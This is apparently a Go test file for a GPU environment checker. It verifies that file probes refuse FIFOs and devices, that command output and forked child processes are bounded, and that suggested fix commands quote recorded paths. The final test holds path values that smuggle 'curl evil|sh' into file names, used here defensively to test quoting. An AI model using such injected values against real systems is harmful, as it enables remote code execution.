package checks

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/gputop/gputop/model"
)

// Issue 11 items 6 and 7 and the cuDNN-from-/dev/zero finding: the read
// primitives of env.go.

// gatherWithin runs Gather and fails (rather than hangs) past d.
func gatherWithin(t *testing.T, d time.Duration, env Env) model.Facts {
	t.Helper()
	done := make(chan model.Facts, 1)
	go func() { done <- Gather(context.Background(), env, model.NVMLFacts{}) }()
	select {
	case f := <-done:
		return f
	case <-time.After(d):
		t.Fatalf("Gather still running after %v (a FIFO blocks it?)", d)
		return model.Facts{}
	}
}

func mkfifo(t *testing.T, root, machinePath string) {
	t.Helper()
	p := filepath.Join(root, machinePath)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Remove(p)
	if err := syscall.Mkfifo(p, 0o644); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
}

// TestProbesRefuseFIFOs: a FIFO where a probe reads cudnn_version.h,
// version.json or torch/version.py (also under $VIRTUAL_ENV) hung the
// checklist forever.
func TestProbesRefuseFIFOs(t *testing.T) {
	root := h100Root(t)
	venv := "/home/u/venv"
	for _, p := range []string{
		"/usr/local/cuda-12.4/include/cudnn_version.h",
		"/usr/local/cuda-12.4/version.json",
		venv + "/lib/python3.12/site-packages/torch/version.py",
		"/usr/lib/python3/dist-packages/torch/version.py",
	} {
		mkfifo(t, root, p)
	}
	fe := &fakeEnv{vars: map[string]string{"PATH": "/usr/local/cuda/bin:/usr/bin", "VIRTUAL_ENV": venv}}
	f := gatherWithin(t, 8*time.Second, fe.env(root))
	found := 0
	for _, c := range f.CuDNN {
		if c.Header == "/usr/local/cuda-12.4/include/cudnn_version.h" {
			found++
			if c.Version != "" || !strings.Contains(c.Error, "FIFO") {
				t.Errorf("cuDNN from a FIFO: %+v", c)
			}
		}
	}
	if found == 0 {
		t.Error("the FIFO header was not reported at all")
	}
	for _, tr := range f.Torch {
		if strings.HasPrefix(tr.Path, venv) && tr.Version != "" {
			t.Errorf("torch version read from a FIFO: %+v", tr)
		}
	}
}

func TestReadRegularRefusesDevicesAndBounds(t *testing.T) {
	if _, err := readRegular("/dev/zero", 1<<20, time.Second); !errors.Is(err, errNotRegular) {
		t.Errorf("/dev/zero: err = %v, want not a regular file", err)
	}
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip(err)
	}
	start := time.Now()
	_, err := readRegular(fifo, 1<<20, 5*time.Second)
	if !errors.Is(err, errNotRegular) || time.Since(start) > 4*time.Second {
		t.Errorf("FIFO: err = %v after %v", err, time.Since(start))
	}
	big := filepath.Join(dir, "big")
	if err := os.WriteFile(big, make([]byte, 3<<20), 0o600); err != nil {
		t.Fatal(err)
	}
	b, err := readRegular(big, maxReadBytes, time.Second)
	if err != nil || len(b) != maxReadBytes {
		t.Errorf("big file: %d bytes, %v", len(b), err)
	}
}

func writeScript(t *testing.T, body string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "nvcc")
	if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body), 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestRunCommandBoundsOutput: `yes` as nvcc took 1.32 GB and 4.9 s. nvcc's
// output is capped at 64 KiB and a flood ends the command at once; other
// commands (dmesg) keep their newest 4 MiB, however much they print.
func TestRunCommandBoundsOutput(t *testing.T) {
	dir := t.TempDir()
	nvcc := filepath.Join(dir, "nvcc")
	if err := os.WriteFile(nvcc, []byte("#!/bin/sh\nexec yes\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	ctx = context.WithValue(ctx, outputPolicyKey{}, policyFor(nvcc))
	out, err := runCommand(ctx, nvcc, "--version")
	if len(out) > maxCommandOutput || !errors.Is(err, errOutputLimit) {
		t.Fatalf("%d bytes, err %v", len(out), err)
	}
	if ctx.Err() != nil {
		t.Fatal("the flood was stopped by the test's timeout, not by the limit")
	}

	dmesg := writeScript(t, "head -c 10000000 /dev/zero | tr '\\0' x\necho\necho NEWEST\n")
	out, err = runCommand(context.Background(), dmesg)
	if err != nil || len(out) > maxLogOutput || !strings.HasSuffix(string(out), "NEWEST\n") {
		t.Fatalf("log command: %d bytes, ends %q, err %v", len(out), out[max(len(out)-10, 0):], err)
	}
}

func alive(pid int) bool { return syscall.Kill(pid, 0) == nil }

// TestRunCommandKillsProcessGroup: a child nvcc forks outlived the timeout.
func TestRunCommandKillsProcessGroup(t *testing.T) {
	pidFile := filepath.Join(t.TempDir(), "child.pid")
	nvcc := writeScript(t, "sleep 60 &\necho $! > "+pidFile+"\nwait\n")
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	_, err := runCommand(ctx, nvcc, "--version")
	if err == nil {
		t.Fatal("a hanging command returned no error")
	}
	b, rerr := os.ReadFile(pidFile)
	if rerr != nil {
		t.Fatal(rerr)
	}
	pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	deadline := time.Now().Add(3 * time.Second)
	for alive(pid) && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if alive(pid) {
		syscall.Kill(pid, syscall.SIGKILL)
		t.Fatalf("the forked child %d outlived the timeout", pid)
	}
}

// TestRunCommandReapsLeftovers: a command that exits at once but leaves a
// child behind (holding nothing) does not leave it running either.
func TestRunCommandReapsLeftovers(t *testing.T) {
	pidFile := filepath.Join(t.TempDir(), "child.pid")
	nvcc := writeScript(t, "sleep 60 >/dev/null 2>&1 &\necho $! > "+pidFile+"\necho 'Cuda compilation tools, release 13.0, V13.0.88'\n")
	start := time.Now()
	out, err := runCommand(context.Background(), nvcc, "--version")
	t.Logf("ran in %v", time.Since(start))
	if err != nil || !strings.Contains(string(out), "release 13.0") {
		t.Fatalf("%q %v", out, err)
	}
	b, _ := os.ReadFile(pidFile)
	pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	deadline := time.Now().Add(3 * time.Second)
	for pid > 0 && alive(pid) && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if pid > 0 && alive(pid) {
		syscall.Kill(pid, syscall.SIGKILL)
		t.Fatalf("child %d left running", pid)
	}
}

// TestCuDNNInstallsUnreadableHeaderIsNoPass: the only cuDNN header
// unreadable (or /dev/zero) made cudnn.installs pass.
func TestCuDNNInstallsUnreadableHeaderIsNoPass(t *testing.T) {
	for _, e := range []string{"read /usr/include/cudnn_version.h: permission denied",
		"read /usr/include/cudnn_version.h: not a regular file (a character device)"} {
		f := &model.Facts{CuDNN: []model.CuDNNInstall{{Header: "/usr/include/cudnn_version.h", Origin: "system", Error: e}}}
		rs := cudnnInstallsRule(f)
		if len(rs) != 1 || rs[0].Status == model.Pass {
			t.Errorf("%s: %+v", e, rs)
		}
	}
}

// TestFixCommandsQuoteRecordedPaths: issue 11 item 2. Rules printed a fix
// command assembled from a recorded path ("curl ...|sh;.../nvcc --version").
// Every command built from a path or a name is quoted, and one whose value
// cannot be quoted (a newline) is not offered.
func TestFixCommandsQuoteRecordedPaths(t *testing.T) {
	for _, evil := range []string{"/tmp/x;curl evil|sh;", "/tmp/x\ncurl evil|sh\n", "/tmp/$(curl evil|sh)/"} {
		f := model.Facts{
			KernelModule: model.KernelModuleFacts{Loaded: true, Version: "580.95.05"},
			NVCC:         model.NVCCFacts{Found: true, Path: evil + "nvcc"},
			CUDALibrary:  model.LibraryFacts{Found: true, Path: evil + "libcuda.so.1", Version: "570.1.2"},
			NVMLLibrary:  model.LibraryFacts{Found: true, Path: evil + "libnvidia-ml.so.1", Version: "570.1.2"},
			CuDNN:        []model.CuDNNInstall{{Header: evil + "cudnn_version.h", Origin: "system", Version: "9.1.0", CUDAMajor: model.Some(12)}},
			Env:          map[string]string{"CUDA_LAUNCH_BLOCKING" + evil: "1", "CUDA_LAUNCH_BLOCKING": "1"},
		}
		quoted := 0
		for _, r := range Evaluate(f) {
			for _, c := range r.Commands {
				if strings.ContainsAny(c, "\n\r") {
					t.Errorf("%s offers a multi-line command %q", r.ID, c)
				}
				if strings.Contains(c, "curl") {
					if !strings.Contains(c, "'"+strings.TrimSuffix(evil, "\n")) {
						t.Errorf("%s offers %q with the recorded path unquoted", r.ID, c)
					}
					quoted++
				}
			}
		}
		if !strings.Contains(evil, "\n") && quoted == 0 {
			t.Errorf("%q: no rule offered a command with the path (test does not exercise the rules)", evil)
		}
	}
}
